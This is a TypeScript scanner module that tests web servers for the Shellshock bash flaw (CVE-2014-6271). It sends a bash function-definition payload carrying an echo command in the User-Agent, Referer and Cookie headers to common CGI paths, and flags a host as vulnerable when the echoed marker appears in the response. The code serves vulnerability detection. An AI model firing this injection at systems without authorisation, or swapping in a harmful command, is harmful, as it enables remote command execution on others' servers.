/**
 * http-shellshock (CVE-2014-6271): a bash function definition in a request header that a CGI
 * script passes to bash as an environment variable, followed by a command. The command prints
 * a marker built from two halves joined by shell quote removal (`A''B` prints `AB`), so a page
 * that merely reflects our headers cannot produce it: only a shell that ran the command can.
 *
 * @module
 */
import { scriptArg } from "../args.ts";
import type { Script } from "../types.ts";
import { httpRule } from "../bundled/rules.ts";

/** CGI paths tried when no `http-shellshock.uri` is given. */
export const CGI_PATHS: readonly string[] = [
  "/cgi-bin/test.cgi",
  "/cgi-bin/test-cgi",
  "/cgi-bin/status",
  "/cgi-bin/printenv",
  "/cgi-bin/env.cgi",
  "/cgi-bin/index.cgi",
  "/cgi-bin/hello.sh",
  "/cgi-bin/test.sh",
];

/** The header value and the marker its execution prints. */
export function shellshockPayload(): { header: string; marker: string } {
  const a = crypto.randomUUID().replaceAll("-", "").slice(0, 10);
  const b = crypto.randomUUID().replaceAll("-", "").slice(0, 10);
  return { header: `() { :;}; echo; echo ${a}''${b}`, marker: a + b };
}

/** The `http-shellshock` script. */
export const httpShellshock: Script = {
  name: "http-shellshock",
  categories: ["vuln", "intrusive", "exploit"],
  description:
    "Sends a Shellshock (CVE-2014-6271) function definition in User-Agent, Referer and Cookie to CGI paths; the marker its echo prints proves execution.",
  portRule: httpRule,
  async action(ctx) {
    const uri = scriptArg(ctx.args, "http-shellshock", "uri");
    const paths = uri ? [uri] : CGI_PATHS;
    const tried: string[] = [];
    for (const path of paths) {
      const { header, marker } = shellshockPayload();
      let res;
      try {
        res = await ctx.http({
          path,
          headers: { "User-Agent": header, Referer: header, Cookie: `x=${header}` },
        });
      } catch (e) {
        tried.push(`${path}: ${(e as Error).message}`);
        continue;
      }
      tried.push(`${path}: ${res.status}`);
      const headerText = res.rawHeaders.map(([k, v]) => `${k}: ${v}`).join("\n");
      if (res.body.includes(marker) || headerText.includes(marker)) {
        const evidence =
          `${path} answered ${res.status} with the marker ${marker} that only \`echo ${
            marker.slice(0, 10)
          }''${marker.slice(10)}\` run by bash prints`;
        return {
          text: `VULNERABLE: ${evidence}`,
          data: { path, status: res.status },
          vulnerable: {
            state: "VULNERABLE",
            id: "CVE-2014-6271",
            title: "GNU Bash Shellshock via CGI",
            evidence,
            risk: "critical",
          },
        };
      }
    }
    const evidence = `no command output in the responses (${tried.join(", ")})`;
    return {
      text: `NOT VULNERABLE: ${evidence}`,
      vulnerable: {
        state: "NOT VULNERABLE",
        id: "CVE-2014-6271",
        title: "GNU Bash Shellshock via CGI",
        evidence,
      },
    };
  },
};
